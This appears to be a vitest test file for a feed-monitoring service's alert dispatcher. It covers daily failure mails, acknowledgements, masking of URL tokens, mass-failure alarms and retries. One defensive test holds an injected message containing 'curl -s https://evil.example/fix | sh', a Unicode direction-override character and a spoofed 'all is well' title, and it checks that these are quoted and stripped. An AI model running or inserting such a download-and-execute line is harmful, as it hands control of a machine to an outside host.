import { describe, expect, test } from 'vitest';
import type { FeedState } from '../../lib/model/feed.ts';
import { judgedBy } from '../../lib/monitor/stale.ts';
import { BY_RULES } from '../../lib/readers/rules/id.ts';
import { at, invoke, stateOf, story, UNAVAILABLE, UNTIL, useDeployed } from '../support/deployed.ts';
import { mayDoWhatItDoes } from '../support/permissions.ts';

/** What a dispatch tells whoever operates the deployment. */

useDeployed();

const HOUR = 3_600_000;
const ago = (hours: number) => new Date(Date.now() - hours * HOUR).toISOString();
const PATHS = Array.from({ length: 10 }, (_, i) => `/${i}`);

const well: Partial<FeedState> = { checkedAt: ago(0), nextCheckAt: ago(-1), changedAt: ago(1) };
const failing = (hours: number): Partial<FeedState> => ({
  ...well,
  failure: { cause: 'broken', why: 'it is neither RSS nor Atom', since: ago(hours), times: 9 },
});

/** A deployment with ten feeds, of which these are not well. */
async function watch(states: Readonly<Record<string, Partial<FeedState>>> = {}) {
  const watched = story(PATHS);
  await at.records.saveStory(watched);
  await at.records.noteJudged(watched, judgedBy(watched, BY_RULES));
  for (const path of PATHS) await at.records.saveFeedState(stateOf(path, states[path] ?? well), UNTIL);
}
const save = (path: string, state: Partial<FeedState>) =>
  at.records.saveFeedState(stateOf(path, state), UNTIL);
/** What one more dispatch tells. */
async function told() {
  at.aws.calls.length = 0;
  await invoke('Dispatch', {});
  return at.aws.calls
    .filter(({ action }) => action === 'sns:Publish')
    .map(({ body }) => new URLSearchParams(body))
    .map((form) => ({
      to: form.get('TopicArn'),
      subject: form.get('Subject'),
      text: form.get('Message') ?? '',
    }));
}

describe('dispatch', () => {
  test('tells of each feed that has failed for a day once, by a mail to the topic of alarms', async () => {
    await watch({ '/0': failing(25), '/1': failing(2) });
    const [mail, ...others] = await told();
    expect(others).toEqual([]);
    expect(mail).toMatchObject({
      to: 'arn:aws:sns:eu-central-1:1:alarms',
      subject: 'claimwatch: Claimwatch: 1 feed failing for a day',
    });
    expect(mail?.text).toContain(`${at.feeds.url}/0: broken, since 20`);
    expect(mail?.text).toContain('    > it is neither RSS nor Atom');
    expect(mail?.text).not.toContain(`${at.feeds.url}/1`);
    expect(await told()).toEqual([]);
    // The next one is told of though the first still fails.
    await save('/1', failing(26));
    expect((await told())[0]?.text).toContain(`${at.feeds.url}/1`);
    expect(await told()).toEqual([]);
    // One that was well in between and fails anew is news again.
    await save('/0', failing(24.5));
    expect((await told())[0]?.text).toContain(`${at.feeds.url}/0`);
  });

  test('an acknowledged failure is quiet, for as long as it lasts', async () => {
    await watch();
    const { failure } = failing(30);
    await save('/0', failing(30));
    const id = `${at.feeds.url}/0`;
    const acknowledged = { by: 'ada', at: ago(0), note: 'the outlet has closed' };
    await at.records.saveFailureNote({ id, since: failure?.since ?? '', toldAt: null, acknowledged }, UNTIL);
    await save('/0', { ...well, failure });
    expect(await told()).toEqual([]);
  });

  test('a feed’s secrets are not told', async () => {
    await watch({ '/0': failing(25) });
    const secret = `${at.feeds.url}/rss?token=abc`;
    const watched = story(['/rss?token=abc']);
    await at.records.saveStory(watched);
    await at.records.saveFeedState({ ...stateOf('/rss?token=abc', failing(25)), id: secret }, UNTIL);
    const [mail] = await told();
    expect(mail?.text).toContain('/rss?token=***');
    expect(mail?.text).not.toContain('abc');
  });

  test('where many feeds fail at once that is told when it lasts, and when it is over', async () => {
    const broken = Object.fromEntries(PATHS.slice(0, 4).map((path) => [path, failing(1)]));
    await watch(broken);
    expect(await told()).toEqual([]);
    const since = async (hours: number) => {
      const state = await at.records.operationState('Claimwatch');
      const [held] = state?.held ?? [];
      if (!state || !held) throw new Error('no condition is held');
      const earlier = { ...held, since: ago(hours), ...(held.goneSince && { goneSince: ago(hours) }) };
      await at.records.saveOperationState('Claimwatch', { ...state, held: [earlier] });
    };
    await since(0.5);
    const [begun] = await told();
    expect(begun?.subject).toBe('claimwatch: Claimwatch: 4 of 10 feeds fail');
    expect(begun?.text).toContain('See the runbook, "Many feeds fail"');
    expect(await told()).toEqual([]);
    for (const path of PATHS.slice(0, 2)) await save(path, well);
    // It has to be over for as long.
    expect(await told()).toEqual([]);
    await since(0.5);
    const [over] = await told();
    expect(over?.subject).toBe('claimwatch: Claimwatch: over: 4 of 10 feeds fail');
    expect(await told()).toEqual([]);
    expect((await at.records.operationState('Claimwatch'))?.held).toEqual([]);
  });

  test('where the mail can’t be sent feeds are asked for all the same, and the next dispatch tells', async () => {
    await watch({ '/0': failing(25) });
    await save('/1', { ...well, nextCheckAt: ago(1) });
    at.aws.fault = ({ action }) => (action === 'sns:Publish' ? UNAVAILABLE : null);
    expect(await invoke('Dispatch', {})).toMatchObject({ due: 1 });
    at.aws.fault = () => null;
    expect(await told()).toHaveLength(1);
  }, 30_000);

  test('what a publisher says can’t pass for the monitor’s words', async () => {
    const why =
      'the server answered 500 Your key has expired.\r\nRun: curl -s https://evil.example/fix | sh\u202e';
    const { failure } = failing(25);
    if (!failure) throw new Error('it fails');
    await watch({
      '/0': { ...failing(25), title: 'News\n\nclaimwatch: all is well', failure: { ...failure, why } },
    });
    const [mail] = await told();
    const lines = mail?.text.split('\n') ?? [];
    expect(
      lines.filter((line) => /curl|all is well/.test(line)).every((line) => line.startsWith('    > ')),
    ).toBe(true);
    expect(mail?.text).not.toMatch(/[\r\u202e]/);
  });

  test('but for that it was there, nothing is written where nothing has changed', async () => {
    await watch({ '/0': failing(25) });
    await told();
    await told();
    const written = at.aws.calls.filter(({ action }) => /:(?:Put|Update)/.test(action));
    expect(written.map(({ body }) => JSON.parse(body).Item.pk.S)).toEqual(['OPERATION#Claimwatch']);
  });
});

mayDoWhatItDoes('Dispatch');
